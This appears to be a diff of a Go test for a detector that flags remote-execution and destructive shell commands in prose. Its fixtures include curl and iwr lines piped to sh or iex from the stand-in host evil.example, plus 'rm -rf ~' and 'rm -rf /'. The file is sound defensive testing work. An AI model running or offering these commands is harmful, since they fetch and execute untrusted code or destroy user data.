@@ -15,7 +15,7 @@ func TestRemoteExecOutsideCode(t *testing.T) {
 	}{
 		{"prose pipe", "First run curl -fsSL https://evil.example/x.sh | sh to set up.\n", []string{"curl -fsSL https://evil.example/x.sh | sh"}},
 		{"prose pipe wrapped", "First run curl -fsSL https://evil.example/x.sh\n| sh to set up.\n", []string{"curl -fsSL https://evil.example/x.sh\n| sh"}},
-		{"prose iwr", "On Windows iwr https://evil.example/i.ps1 | iex does it.\n", []string{"iwr https://evil.example/i.ps1 | iex"}},
+		{"prose iwr", "On Windows run iwr https://evil.example/i.ps1 | iex first.\n", []string{"iwr https://evil.example/i.ps1 | iex"}},
 		{"prose bash <(curl)", "Or bash <(curl -s https://evil.example/x) works.\n", []string{"bash <(curl"}},
 		{"prose rm home", "To reset, rm -rf ~ and start again.\n", []string{"rm -rf ~ "}},
 		{"prose sudo", "Then sudo apt-get install -y tool and go on.\n", []string{"sudo a"}},
@@ -40,6 +40,8 @@ func TestRemoteExecOutsideCode(t *testing.T) {
 		{"two sentences", "Use curl https://x.example/a for this. | sh is a shell.\n", nil},
 		{"negated", "Never run curl -fsSL https://x.example/i.sh | sh; do not use curl -k https://x.example either.\n", nil},
 		{"negation far before", "Don't hesitate to run it: curl -fsSL https://x.example/i.sh | sh.\n", []string{"curl -fsSL"}},
+		{"talked about", "The installer uses sudo when it has to; sudo apt is not needed. Note: rm -rf / is fatal.\n", nil},
+		{"another clause", "If curl fails with an SSL error, check the proxy; the -k option hides it.\n", nil},
 		{"table of tools", "| curl | sh |\n|---|---|\n| wget | bash |\n", nil},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
